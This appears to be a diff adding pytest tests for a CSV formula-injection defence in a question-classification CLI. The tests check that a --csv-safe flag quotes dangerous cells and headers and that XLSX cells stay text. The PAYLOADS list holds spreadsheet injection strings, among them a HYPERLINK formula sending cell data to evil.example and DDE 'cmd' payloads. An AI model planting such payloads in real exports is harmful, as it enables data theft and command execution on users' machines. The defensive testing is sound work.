@@ -10,6 +10,8 @@ from __future__ import annotations
 import json
 from pathlib import Path
 
+import pandas as pd
+
 ROOT = Path(__file__).resolve().parent.parent
 FIX = Path(__file__).parent / "fixtures" / "gaps"
 GOOD_Q = b"question,volume\nwhat is churn,10\nprix crm,20\n"
@@ -46,6 +48,62 @@ def _run(runner, cli, args, model):
 
 def _leftovers(folder: Path) -> list[str]:
     return sorted(p.name for p in folder.iterdir() if p.name.endswith((".tmp", ".old")))
+
+
+# ----------------------------------------------------------------------------- 4. CSV formula injection
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1", "\r=1+1", "＝1+1"]
+SAFE_AS_IS = ["-3.5", "+33612345678", "what is churn", "a=b"]
+
+
+def _payload_csv(tmp_path: Path) -> Path:
+    p = tmp_path / "q.jsonl"
+    p.write_text("".join(json.dumps({"question": t, "=cmd|x": t}) + "\n" for t in PAYLOADS + SAFE_AS_IS), encoding="utf-8")
+    return p
+
+
+def test_plain_csv_is_byte_faithful(tmp_path, runner, cli, tiny_model_dir):
+    src = _payload_csv(tmp_path)
+    out = tmp_path / "out.csv"
+    assert _run(runner, cli, ["classify", "-i", str(src), "-o", str(out), "--no-explain"], tiny_model_dir).exit_code == 0
+    df = pd.read_csv(out, keep_default_na=False, dtype=str)
+    assert df["question"].tolist() == PAYLOADS + SAFE_AS_IS and "=cmd|x" in df.columns
+
+
+def test_csv_safe_neutralises_formulas_in_cells_and_headers(tmp_path, runner, cli, tiny_model_dir):
+    src = _payload_csv(tmp_path)
+    before = src.read_bytes()
+    out = tmp_path / "out.csv"
+    res = _run(runner, cli, ["classify", "-i", str(src), "-o", str(out), "--csv-safe", "--no-explain"], tiny_model_dir)
+    assert res.exit_code == 0, res.output
+    df = pd.read_csv(out, keep_default_na=False, dtype=str)
+    assert df["question"].tolist() == ["'" + p for p in PAYLOADS] + SAFE_AS_IS
+    assert "'=cmd|x" in df.columns
+    assert src.read_bytes() == before
+
+
+def test_gaps_csv_safe_and_xlsx_cells_are_text(tmp_path, runner, cli, tiny_model_dir):
+    q = tmp_path / "q.jsonl"
+    q.write_text("".join(json.dumps({"question": t}) + "\n" for t in PAYLOADS + ["what is churn"]), encoding="utf-8")
+    out = tmp_path / "rep"
+    args = ["gaps", "--content", str(FIX / "content.csv"), "--questions", str(q), "-o", str(out), "-q", "--csv-safe"]
+    assert _run(runner, cli, args, tiny_model_dir).exit_code == 0
+    got = pd.read_csv(out / "questions.csv", keep_default_na=False, dtype=str)["question"].tolist()
+    assert got == ["'" + p for p in PAYLOADS] + ["what is churn"]
+    import openpyxl
+    ws = openpyxl.load_workbook(out / "report.xlsx")["questions"]
+    cells = [c for c in ws["A"][1:]]
+    # the workbook keeps the text exact (openpyxl leaves the OOXML escape of CR, _x000D_, undecoded)...
+    assert [c.value.replace("_x000D_", "\r") for c in cells] == PAYLOADS + ["what is churn"]
+    assert {c.data_type for c in cells} == {"s"}                      # ...as text, never a formula
+
+
+def test_tag_csv_safe(tmp_path, runner, cli, tiny_model_dir):
+    (tmp_path / "a.md").write_text("---\ntitle: \"=HYPERLINK(\\\"http://x\\\")\"\n---\nOur prices per user.", encoding="utf-8")
+    res = _run(runner, cli, ["tag", str(tmp_path / "a.md"), "-f", "csv", "--csv-safe"], tiny_model_dir)
+    assert res.exit_code == 0, res.output
+    assert "'=HYPERLINK" in res.output
 
 
 # ----------------------------------------------------------------------------- 6. terminal output
